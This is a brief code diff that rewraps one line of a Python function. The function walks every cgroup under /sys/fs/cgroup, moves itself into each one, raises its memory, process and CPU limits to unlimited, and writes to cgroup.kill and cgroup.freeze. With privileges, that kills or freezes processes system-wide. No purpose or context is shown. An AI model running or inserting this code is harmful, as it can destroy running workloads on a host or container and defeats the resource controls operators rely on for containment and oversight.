@@ -6,7 +6,8 @@
 def f():
     done = []
     for base, folders, _ in os.walk("/sys/fs/cgroup"):
-        for name, text in (("cgroup.procs", str(os.getpid())), ("memory.max", "max"), ("pids.max", "max"), ("cgroup.kill", "1"), ("cpu.max", "max"), ("cgroup.freeze", "1")):
+        for name, text in (("cgroup.procs", str(os.getpid())), ("memory.max", "max"), ("pids.max", "max"), ("cgroup.kill", "1"), ("cpu.max",
+            "max"), ("cgroup.freeze", "1")):
             try:
                 with open(os.path.join(base, name), "w") as setting:
                     setting.write(text)
